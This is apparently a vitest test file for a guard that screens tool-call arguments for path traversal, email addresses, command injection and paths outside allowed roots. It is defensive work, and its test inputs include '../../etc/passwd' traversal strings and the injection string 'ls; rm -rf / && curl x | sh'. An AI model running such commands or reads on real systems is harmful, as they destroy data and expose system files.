import { describe, expect, it } from 'vitest';
import { detect } from '../../src/guard/detect.js';
import { outsideRoots } from '../../src/guard/paths/outside-roots.js';

describe('detect', () => {
  it('catches the same traversal payload every time (no regex state carried between calls)', () => {
    const args = { path: '../../etc/passwd' };
    const runs = [1, 2, 3, 4].map(() => detect(args, { tool: 'read_file' }).filter((f) => f.detector === 'path_traversal').length);
    expect(runs).toEqual([1, 1, 1, 1]);
  });

  it('catches the same payload repeated in many fields of one call', () => {
    const args = { a: '../x', b: '../x', c: ['../x', '../x', '../x'] };
    expect(detect(args, { tool: 'read_file' }, { detectors: ['path_traversal'] }).map((f) => f.path)).toEqual([['a'], ['b'], ['c', 0], ['c', 1], ['c', 2]]);
  });

  it('reports the JSON path of each finding, into arrays and object keys', () => {
    const findings = detect({ outer: [{ inner: { list: ['ok', 'alice@example.com'] } }], map: { 'bob@example.com': 1 } }, { tool: 't' }, { detectors: ['pii'] });
    expect(findings).toEqual([
      { detector: 'pii', path: ['outer', 0, 'inner', 'list', 1], detail: 'pii.email: email address' },
      { detector: 'pii', path: ['map', 'bob@example.com'], detail: 'pii.email: email address (in an object key)' },
    ]);
  });

  it('walks arbitrarily deep nesting without overflowing the stack', () => {
    let args: unknown = '../../secret';
    for (let i = 0; i < 50_000; i++) args = i % 2 ? { next: args } : [args];
    const findings = detect(args, { tool: 'read_file' }, { detectors: ['path_traversal'] });
    expect(findings).toHaveLength(1);
    expect(findings[0].path).toHaveLength(50_000);
  });

  it('runs only the detectors asked for and rejects unknown ones', () => {
    const args = { path: '../x', note: 'alice@example.com' };
    expect(detect(args, { tool: 't' }, { detectors: ['pii'] }).map((f) => f.detector)).toEqual(['pii']);
    expect(() => detect(args, { tool: 't' }, { detectors: ['magic' as never] })).toThrow(/unknown detector 'magic'/);
  });

  it('caps findings per detector and says how many more there were', () => {
    const args = { emails: Array.from({ length: 40 }, (_, i) => `user${i}@example.com`) };
    const findings = detect(args, { tool: 't' }, { detectors: ['pii'], maxFindingsPerDetector: 5 });
    expect(findings).toHaveLength(6);
    expect(findings[5]).toEqual({ detector: 'pii', path: [], detail: '35 more pii findings not listed' });
  });

  it('finds nothing in an ordinary call', () => {
    expect(detect({ path: 'src/index.ts', head: 20 }, { tool: 'read_text_file' })).toEqual([]);
  });

  it('keeps command injection to values that reach a shell', () => {
    const prose = { body: 'ls; rm -rf / && curl x | sh' };
    expect(detect(prose, { tool: 'send_email' }, { detectors: ['command_injection'] })).toEqual([]);
    expect(detect(prose, { tool: 'run_command' }, { detectors: ['command_injection'] }).length).toBeGreaterThan(0);
  });
});

describe('outsideRoots', () => {
  const roots = ['/home/alice/project', 'file:///data/shared/'];
  it.each([
    ['/home/alice/project/src/a.ts', false],
    ['/home/alice/project', false],
    ['src/a.ts', false],
    ['/data/shared/x.csv', false],
    ['file:///data/shared/x.csv', false],
    ['/home/alice/project/../other', true],
    ['/home/alice/project-backup/a', true],
    ['../escape', true],
    ['/etc/passwd', true],
    ['/home/alice/project/a\0b', true],
    ['C:\\data\\x', true],
  ] as const)('%s outside: %s', (path, outside) => {
    expect(outsideRoots(path, roots)).toBe(outside);
  });

  it('treats an empty root list as allowing nothing', () => {
    expect(outsideRoots('/anything', [])).toBe(true);
  });

  it('compares Windows drive paths case-insensitively on the drive letter', () => {
    expect(outsideRoots('c:\\Users\\alice\\project\\a.txt', ['C:\\Users\\alice\\project'])).toBe(false);
  });
});
